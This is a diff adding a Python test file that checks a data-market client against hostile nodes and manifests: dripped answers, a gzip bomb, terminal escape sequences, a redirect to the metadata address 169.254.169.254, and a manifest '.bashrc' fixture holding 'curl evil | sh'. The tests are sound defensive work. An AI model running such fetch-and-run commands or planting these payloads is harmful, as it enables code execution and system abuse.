@@ -1,0 +1,290 @@
+"""A hostile asset owner's node, hostile manifests and hostile requesters, against the holder's `get`, the
+owner's key release and the compute API (the embedded chain, real HTTP servers on 127.0.0.1).
+
+A node that drips its answer, compresses it into a bomb, sends terminal escapes, or names two files with
+the same bytes; a download into a directory that already holds a file of the same name; strangers posting
+signed requests; a compute request whose parameters overflow: each ends in a one-line error within a
+bound (or succeeds when it should), with nothing written and nothing lost."""
+
+from __future__ import annotations
+
+import gzip
+import secrets
+import socket
+import sqlite3
+import threading
+import time
+import tracemalloc
+from collections.abc import Iterator
+from contextlib import closing, contextmanager
+from dataclasses import replace
+from pathlib import Path
+
+import pytest
+from fastapi.testclient import TestClient
+
+from proofwork.api.v1 import create_app
+from proofwork.domain.asset_access import CLOCK_SKEW, MAX_LIFETIME
+from proofwork.domain.errors import InvalidInput, ProofworkError
+from proofwork.keys.accounts import address_of
+from proofwork.network import asset_keys as net
+from proofwork.sdk import Signer
+from proofwork.services import asset_access
+from proofwork.storage.unixfs import cid_of_bytes
+from tests.integration import test_asset_access as access
+from tests.integration.conftest import DAY, Market
+from tests.integration.test_asset_access import Sold
+
+CID = cid_of_bytes(b"x")
+access_market = access.access_market  # the deployed market, once per module
+am = access.am  # a chain snapshot of it per test
+
+
+# ---------------------------------------------------------------- a node that misbehaves on the wire
+
+
+@contextmanager
+def raw_node(answer: bytes, *, drip: float = 0.0, for_seconds: float = 8.0) -> Iterator[str]:
+    """A TCP server answering every connection with `answer`, one byte every `drip` seconds when
+    `drip` is set (for at most `for_seconds`), then closing."""
+    server = socket.socket()
+    server.bind(("127.0.0.1", 0))
+    server.listen(8)
+    server.settimeout(0.2)
+    stop = threading.Event()
+
+    def serve_one(conn: socket.socket) -> None:
+        with conn:
+            conn.settimeout(1.0)
+            try:
+                conn.recv(65536)
+                if not drip:
+                    conn.sendall(answer)
+                    return
+                started = time.monotonic()
+                for i in range(len(answer)):
+                    if stop.is_set() or time.monotonic() - started > for_seconds:
+                        return
+                    conn.sendall(answer[i : i + 1])
+                    time.sleep(drip)
+            except OSError:
+                return
+
+    def loop() -> None:
+        while not stop.is_set():
+            try:
+                conn, _ = server.accept()
+            except OSError:
+                continue
+            threading.Thread(target=serve_one, args=(conn,), daemon=True).start()
+
+    thread = threading.Thread(target=loop, daemon=True)
+    thread.start()
+    try:
+        yield f"http://127.0.0.1:{server.getsockname()[1]}"
+    finally:
+        stop.set()
+        thread.join(5)
+        server.close()
+
+
+def _http(status: str, body: bytes, *headers: str) -> bytes:
+    head = [f"HTTP/1.1 {status}", f"content-length: {len(body)}", "connection: close", *headers]
+    return ("\r\n".join(head) + "\r\n\r\n").encode() + body
+
+
+def test_a_node_dripping_its_key_answer_is_cut_off_at_the_deadline(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(net, "KEY_DEADLINE", 1.0, raising=False)
+    body = b'{"sealed_key": null}' + b" " * 200
+    with raw_node(_http("200 OK", body, "content-type: application/json"), drip=0.05) as url:
+        started = time.monotonic()
+        with pytest.raises(net.NodeUnavailable) as refused:
+            net.request_sealed_key(url, {"x": 1}, b"\x00" * 65)
+        elapsed = time.monotonic() - started
+    assert elapsed < 4.0, f"a dripping node held the holder for {elapsed:.1f} s"
+    assert "\n" not in str(refused.value)
+
+
+def test_a_node_dripping_a_file_is_cut_off_at_the_deadline(
+    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    monkeypatch.setattr(net, "MIN_BYTES_PER_SECOND", 1 << 30, raising=False)
+    monkeypatch.setattr(net, "FILE_DEADLINE", 1.0, raising=False)
+    with raw_node(_http("200 OK", b"y" * 1000), drip=0.02) as url:
+        started = time.monotonic()
+        with pytest.raises(net.NodeUnavailable):
+            net.download_artifact(url, CID, tmp_path / "f", 1000)
+        elapsed = time.monotonic() - started
+    assert elapsed < 4.0, f"a dripping node held the download for {elapsed:.1f} s"
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_a_compressed_answer_is_not_inflated(tmp_path: Path) -> None:
+    """The node's bytes are what the limits count: a gzip bomb is read as the few bytes it is (and then
+    fails its CID or its JSON), never expanded in memory."""
+    bomb = gzip.compress(b"\x00" * (64 << 20), compresslevel=9)  # 64 MiB in about 64 KiB
+    assert len(bomb) < net.MAX_ANSWER_BYTES * 2
+    answer = _http("200 OK", bomb, "content-encoding: gzip", "content-type: application/json")
+    with raw_node(answer) as url:
+        tracemalloc.start()
+        try:
+            with pytest.raises(ProofworkError) as refused:
+                net.request_sealed_key(url, {"x": 1}, b"\x00" * 65)
+            with pytest.raises(ProofworkError):
+                net.download_artifact(url, CID, tmp_path / "f", 1 << 30)
+            peak = tracemalloc.get_traced_memory()[1]
+        finally:
+            tracemalloc.stop()
+    assert peak < 16 << 20, f"the answer was inflated: {peak >> 20} MiB at the peak"
+    assert "\n" not in str(refused.value)
+    assert list(tmp_path.iterdir()) == []
+
+
+@pytest.mark.parametrize(
+    "answer",
+    [
+        _http("200 OK", b"not json"),
+        _http("200 OK", b'{"sealed_key": "%%%"}'),
+        _http("200 OK", b"[" * 5000 + b"]" * 5000),
+        _http("500 Internal Server Error", b'{"error": {"code": "licence_revoked", "message": "\\n\\n"}}'),
+        _http("403 Forbidden", b'{"error": {"code": ' + b'"x"' * 10 + b"}}"),
+        _http("302 Found", b"", "location: http://169.254.169.254/"),
+        _http("200 OK", b'{"sealed_key": "' + b"A" * 70_000 + b'"}'),
+        b"garbage, not HTTP\r\n\r\n",
+    ],
+)
+def test_garbage_from_the_node_is_a_one_line_error(answer: bytes) -> None:
+    with raw_node(answer) as url, pytest.raises(ProofworkError) as refused:
+        net.request_sealed_key(url, {"x": 1}, b"\x00" * 65)
+    assert "\n" not in str(refused.value)
+
+
+def test_a_nodes_error_message_cannot_drive_the_terminal() -> None:
+    """A node's message reaches the user's terminal: no escape sequence, no newline, bounded."""
+    from proofwork.network.compute_node import NodeRefused, post_compute
+
+    body = b'{"error": {"code": "model_refused\\u001b[2J", "message": "\\u001b]0;owned\\u0007 x\\r\\ny"}}'
+    for call in (
+        lambda url: net.request_sealed_key(url, {"x": 1}, b"\x00" * 65),
+        lambda url: post_compute(url, {"x": 1}),
+    ):
+        answer = _http("403 Forbidden", body, "content-type: application/json")
+        with raw_node(answer) as url, pytest.raises(ProofworkError) as refused:
+            call(url)
+        text = str(refused.value)
+        assert text.isprintable() and "\x1b" not in text, repr(text)
+        if isinstance(refused.value, NodeRefused):
+            assert refused.value.code.isprintable()
+
+
+# ---------------------------------------------------------------- the holder's get and the owner's node
+
+
+def _sell(
+    am: Market, files: dict[str, bytes], tmp_path: Path, *, encrypt: bool, kind: str = "download"
+) -> Sold:
+    src = tmp_path / "src"
+    src.mkdir(exist_ok=True)
+    paths = []
+    for name, data in files.items():
+        (src / name).write_bytes(data)
+        paths.append(src / name)
+    assets = am.pw.assets
+    manifest, key = assets.manifest(paths, kind="dataset", name="d", license="MIT", encrypt=encrypt)
+    done = assets.register(am.freelancer, manifest, key=key)
+    offer = assets.offer(am.freelancer, done.asset_id, price=am.pw.amount("1"), term_seconds=DAY, kind=kind)
+    return Sold(done.asset_id, done.manifest_cid, assets.buy(am.client, offer), am.freelancer, am.client)
+
+
+@pytest.mark.parametrize("encrypt", [False, True])
+def test_two_files_with_the_same_bytes_are_both_written(am: Market, tmp_path: Path, encrypt: bool) -> None:
+    """Two names, one content (one CID when stored plain): each name gets the content."""
+    sold = _sell(am, {"a.csv": b"same\n", "b.csv": b"same\n", "c.csv": b"other\n"}, tmp_path, encrypt=encrypt)
+    out = tmp_path / "out"
+    out.mkdir()
+    am.pw.assets.get(sold.holder, sold.licence_id, out)
+    assert {p.name: p.read_bytes() for p in out.iterdir()} == {
+        "a.csv": b"same\n",
+        "b.csv": b"same\n",
+        "c.csv": b"other\n",
+    }
+
+
+def test_get_never_replaces_a_file_the_user_has(am: Market, tmp_path: Path) -> None:
+    """A manifest names its files (an owner may name one `.bashrc`); `get --out ~` must not replace the
+    user's own: an existing file of another content refuses the whole download, nothing written; a file
+    already holding exactly the asset's bytes is fine (a second `get` into the same directory)."""
+    sold = _sell(am, {".bashrc": b"curl evil | sh\n", "data.csv": b"1,2\n"}, tmp_path, encrypt=True)
+    home = tmp_path / "home"
+    home.mkdir()
+    (home / ".bashrc").write_bytes(b"# mine\n")
+    with pytest.raises(InvalidInput) as refused:
+        am.pw.assets.get(sold.holder, sold.licence_id, home)
+    assert ".bashrc" in str(refused.value) and "nothing was written" in str(refused.value)
+    assert "\n" not in str(refused.value)
+    assert {p.name: p.read_bytes() for p in home.iterdir()} == {".bashrc": b"# mine\n"}
+    # a symlink in the way is not followed nor replaced either
+    (home / ".bashrc").unlink()
+    (home / ".bashrc").symlink_to(tmp_path / "elsewhere")
+    with pytest.raises(InvalidInput):
+        am.pw.assets.get(sold.holder, sold.licence_id, home)
+    assert (home / ".bashrc").is_symlink() and not (tmp_path / "elsewhere").exists()
+    # the same bytes already there: a repeated get succeeds
+    out = tmp_path / "out"
+    out.mkdir()
+    am.pw.assets.get(sold.holder, sold.licence_id, out)
+    am.pw.assets.get(sold.holder, sold.licence_id, out)
+    assert sorted(p.name for p in out.iterdir()) == [".bashrc", "data.csv"]
+
+
+def test_strangers_requests_are_forgotten_once_expired(am: Market, tmp_path: Path) -> None:
+    """Anyone can sign a request with a fresh key, and every signed request is recorded before the chain
+    is asked (a refused one is used up too): the table is bounded by time, each row is dropped once its
+    request expires (at most MAX_LIFETIME + CLOCK_SKEW seconds), on the next request served."""
+    sold = _sell(am, {"data.csv": b"1,2\n"}, tmp_path, encrypt=True)
+    ws = am.pw.ws
+    now = int(time.time())
+    before = _used_count(ws)
+    for _ in range(20):
+        key = secrets.token_bytes(32)
+        stranger = Signer("stranger", address_of(key), key)
+        request, signature = asset_access.key_request(ws, stranger, sold.licence_id, now=now)
+        with pytest.raises(asset_access.KeyRequestRefused) as refused:
+            asset_access.release_key(ws, request, signature, now=now)
+        assert refused.value.reason == "not_licence_holder"
+        with pytest.raises(asset_access.KeyRequestRefused) as replay:
+            asset_access.release_key(ws, request, signature, now=now)
+        assert replay.value.reason == "key_request_replayed"
+    assert _used_count(ws) == before + 20
+    later = now + MAX_LIFETIME + CLOCK_SKEW + 1
+    request, signature = asset_access.key_request(ws, sold.holder, sold.licence_id, now=later)
+    asset_access.release_key(ws, request, signature, now=later)
+    assert _used_count(ws, expired_at=later) == 0 and _used_count(ws) >= 1
+
+
+def _used_count(ws: object, expired_at: int | None = None) -> int:
+    db = asset_access._used_requests_path(ws)  # type: ignore[arg-type]
+    if not db.exists():
+        return 0
+    query = "select count(*) from used_key_requests" + (" where expires < ?" if expired_at else "")
+    with closing(sqlite3.connect(db)) as conn:
+        return int(conn.execute(query, (expired_at,) if expired_at else ()).fetchone()[0])
+
+
+def test_a_compute_request_with_an_overflowing_parameter_is_a_400(am: Market) -> None:
+    ws = am.pw.ws
+    app = create_app(replace(ws.settings, api_rate_limit=100_000, api_domain="testserver"), ws)
+    request = {
+        "chain_id": ws.chain_id,
+        "licensing": ws.licensing.address,
+        "licence_id": 1,
+        "task": "gradient_boosting",
+        "model_cid": "",
+        "params": '{"label_column":"y","n_estimators":' + "9" * 400 + "}",
+        "nonce": "0x" + "00" * 32,
+        "expires_at": ws.chain.now() + 60,
+        "signature": "0x" + "00" * 65,
+    }
+    answer = TestClient(app).post("/api/v1/assets/compute", json={"request": request})
+    assert answer.status_code == 400, answer.text
+    assert answer.json()["error"]["code"] == "request_malformed"
